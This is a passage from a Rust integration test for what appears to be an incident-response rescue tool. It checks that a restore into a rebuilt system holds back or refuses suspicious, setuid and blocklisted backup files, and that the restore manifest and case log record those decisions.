            && out.contains(&format!("HELD      {PLANTED}: finding")),
        &format!(
            "the dry run shows what stays out, the planted file by the case's findings:\n{out}"
        ),
    )?;
    vm.send_raw(b"y")?;
    let out = vm.expect(PROMPT, Duration::from_secs(300))?;
    vm.check(
        says(&out, "restore complete: 2 held, 3 refused, 2 restored")
            && says(
                &out,
                "restore manifest: /mnt/evidence/CASE-RR/restore-manifest.json",
            ),
        &format!("restore summary:\n{out}"),
    )?;

    vm.send_line("9")?;
    let out = vm.expect("Build the incident report now", T)?;
    vm.check(
        says(
            &out,
            "triage      /dev/vda: 0 critical, 0 high, 0 medium, 1 low",
        ) && says(
            &out,
            "findings /mnt/evidence/CASE-RR/triage-vda/findings.json",
        ),
        &format!("case show lists the triage run:\n{out}"),
    )?;
    // No report in this scenario (the first one signs one).
    vm.send_raw(b"n")?;
    vm.expect("Power off now", T)?;
    vm.send_raw(b"y")?;
    let status = vm.wait_exit(Duration::from_secs(120))?;
    vm.check(status.success(), "clean power-off")?;

    // On the host: the rebuilt root holds the golden files and exactly the good backup files.
    let out_dir = w.join("rebuilt");
    debugfs_rdump(&server, &out_dir)?;
    let got = tree(&out_dir)?;
    let mut want: std::collections::BTreeMap<String, (Vec<u8>, u32)> = good
        .iter()
        .map(|(rel, data, mode)| ((*rel).to_owned(), (data.to_vec(), *mode)))
        .collect();
    want.insert(
        "etc/golden-release".into(),
        (b"golden build 12.7\n".to_vec(), 0o644),
    );
    want.insert(
        "usr/bin/app".into(),
        (b"\x7fELF app from the golden image".to_vec(), 0o755),
    );
    assert_eq!(
        got, want,
        "golden files plus exactly the good backup files, content and mode"
    );

    let manifest = w.join("restore-manifest.json");
    debugfs_dump(&evidence, "/CASE-RR/restore-manifest.json", &manifest)?;
    let m: serde_json::Value = serde_json::from_slice(&std::fs::read(&manifest)?)?;
    for (path, action, reason) in [
        ("srv/data/orders.db", "refused", "corrupted"),
        ("usr/local/bin/helper", "refused", "setuid"),
        ("srv/data/implant.so", "refused", "blocklist"),
        ("root/.ssh/authorized_keys", "held", "authorized_keys"),
        (PLANTED, "held", "finding"),
        ("srv/data/report.txt", "restored", ""),
    ] {
        let r = m["files"]
            .as_array()
            .and_then(|a| a.iter().find(|f| f["path"] == path).cloned())
            .unwrap_or_default();
        assert_eq!(r["action"], action, "{path}: {r}");
        assert!(
            r["reason"].as_str().unwrap_or_default().contains(reason),
            "{path}: {r}"
        );
    }

    assert_eq!(
        m["findings"]["from_case"],
        serde_json::json!(["/mnt/evidence/CASE-RR/triage-vda/findings.json"]),
        "the manifest says the case's findings screened the restore: {}",
        m["findings"]
    );
    let case_log = w.join("case-log.jsonl");
    debugfs_dump(&evidence, "/CASE-RR/case-log.jsonl", &case_log)?;
    let entries = rescue::caselog::verify(&std::fs::read(&case_log)?)
        .map_err(|e| anyhow::anyhow!("case log chain: {e}"))?;
    let commands: Vec<&str> = entries.iter().map(|e| e.command.as_str()).collect();
    assert!(
        entries.iter().any(|e| e.command == "triage /dev/vda"
            && e.detail["findings"] == "/mnt/evidence/CASE-RR/triage-vda/findings.json"
            && e.detail["counts"]["low"].as_u64().is_some_and(|n| n > 0)),
        "the case log records the triage with its findings: {commands:?}"
    );
    for want in [
        "deploy golden.img --target /dev/vda --confirm VICTIM-01 --media /dev/vdb --sums SHA256SUMS --sig SHA256SUMS.sign --keyring signer.asc --reason \"rebuilt from the golden image after imaging offsite\"",
        "restore /dev/vdc /dev/vda --manifest /mnt/evidence/backup-SHA256SUMS --blocklist /mnt/evidence/iocs.txt --reason \"business data onto the rebuilt root\" --confirm TIM-01",
    ] {
        assert!(
            commands.contains(&want),
            "the case log records {want:?}: {commands:?}"
        );
    }
    Ok(())
}
